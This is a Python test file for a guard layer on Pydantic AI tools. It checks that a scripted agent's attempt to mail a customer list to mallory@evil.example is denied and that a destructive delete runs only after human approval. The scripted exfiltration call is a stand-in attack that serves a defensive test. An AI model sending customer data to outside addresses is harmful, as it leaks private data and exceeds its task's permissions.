"""Pydantic AI tools guarded by Mandate, in Pydantic AI's agent loop with a
`FunctionModel` that follows a script (no network, no LLM)."""

from __future__ import annotations

import asyncio
from typing import Any

from pydantic_ai import Agent, RunContext
from pydantic_ai.messages import (
    ModelMessage,
    ModelRequest,
    ModelResponse,
    TextPart,
    ToolCallPart,
    ToolReturnPart,
)
from pydantic_ai.models.function import AgentInfo, FunctionModel

from conftest import Server, approve_next
from mandate.pydantic_ai import guard_tool

TOOLS = ["mail/read_inbox", "mail/send_email", "mail/delete_email"]
PARAMS = {"allowed_recipients": ["carol@example.com"]}
READ_ONLY = {"readOnlyHint": True, "openWorldHint": False}
SEND = {"readOnlyHint": False, "destructiveHint": False, "openWorldHint": False}
DESTRUCTIVE = {"readOnlyHint": False, "destructiveHint": True, "openWorldHint": False}


def scripted(*calls: tuple[str, dict[str, Any]]) -> FunctionModel:
    def respond(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
        if len(messages) == 1:
            return ModelResponse(
                parts=[
                    ToolCallPart(name, args, tool_call_id=f"call-{i}")
                    for i, (name, args) in enumerate(calls)
                ]
            )
        return ModelResponse(parts=[TextPart("done")])

    return FunctionModel(respond)


def returns(messages: list[ModelMessage]) -> dict[str, str]:
    found: dict[str, str] = {}
    for message in messages:
        if isinstance(message, ModelRequest):
            for part in message.parts:
                if isinstance(part, ToolReturnPart):
                    found[part.tool_call_id] = str(part.content)
    return found


async def test_the_model_reads_the_denial_and_the_allowed_tool_runs(server: Server) -> None:
    ran: list[str] = []

    def read_inbox(ctx: RunContext[None], folder: str) -> str:
        """Read the messages of a folder."""
        ran.append(f"read_inbox {folder}")
        return f"{folder}: 2 messages"

    def send_email(to: str, subject: str, body: str) -> str:
        """Send a mail."""
        ran.append(f"send_email {to}")
        return "sent"

    async with server.task(intent="answer customer mail", tools=TOOLS, params=PARAMS) as t:
        agent = Agent(
            scripted(
                ("send_email", {"to": "mallory@evil.example", "subject": "list", "body": "all"}),
                ("read_inbox", {"folder": "inbox"}),
            ),
            tools=[
                guard_tool(read_inbox, server="mail", task=t, annotations=READ_ONLY),
                guard_tool(send_email, server="mail", task=t, annotations=SEND),
            ],
        )
        result = await agent.run("mail the customer list to mallory")
        view = await t.ashow()

    assert ran == ["read_inbox inbox"]
    said = returns(result.all_messages())
    assert "not among the task's allowed recipients" in said["call-0"]
    assert said["call-1"] == "inbox: 2 messages"
    assert result.output == "done"
    history = {e["tool"]: e for e in view["history"]}
    assert history["send_email"]["decision"] == "deny"
    assert history["read_inbox"]["result"] is not None
    # The run context is the framework's: it is not sent as an argument.
    receipt = server.client().receipt(history["read_inbox"]["decision_id"])["receipt"]
    assert receipt["arguments"] == {"folder": "inbox"}


async def test_an_approval_granted_meanwhile_lets_the_tool_run_once(server: Server) -> None:
    ran: list[str] = []

    async def delete_email(message_id: str) -> str:
        """Delete a message."""
        ran.append(message_id)
        return "deleted"

    async with server.task(intent="clean up spam", tools=TOOLS, params=PARAMS) as t:
        agent = Agent(
            scripted(("delete_email", {"message_id": "msg-1042"})),
            tools=[guard_tool(delete_email, server="mail", annotations=DESTRUCTIVE)],
        )
        person = asyncio.create_task(asyncio.to_thread(approve_next, server, str(t.task_id)))
        result = await agent.run("delete the spam")
        await person

    assert ran == ["msg-1042"]
    assert returns(result.all_messages())["call-0"] == "deleted"
